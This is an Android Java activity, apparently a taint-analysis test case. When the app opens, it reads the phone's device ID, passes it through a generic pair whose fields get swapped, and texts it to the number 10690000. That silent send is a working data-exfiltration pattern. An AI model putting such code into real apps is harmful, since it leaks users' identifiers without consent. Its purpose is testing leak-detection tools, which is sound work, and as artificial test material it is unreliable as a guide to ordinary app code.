package cn.privlens.suite.generic_box;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    static class Two<A, B> {
        final A a;
        final B b;
        Two(A a, B b) {
            this.a = a;
            this.b = b;
        }
        Two<B, A> turned() { return new Two<>(b, a); }
    }
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Two<String, Integer> two = new Two<>(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId(), 7);
        Object out = two.turned().b;
        SmsManager.getDefault().sendTextMessage("10690000", null, String.valueOf(out), null, null);
    }
}
